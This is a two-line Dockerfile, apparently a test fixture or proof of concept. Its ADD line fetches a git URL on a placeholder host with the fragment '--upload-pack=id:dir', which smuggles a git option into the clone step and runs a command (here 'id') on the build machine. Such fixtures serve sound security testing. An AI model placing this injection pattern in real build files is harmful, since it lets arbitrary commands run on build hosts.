FROM scratch
ADD https://h.example/x.git#--upload-pack=id:dir /
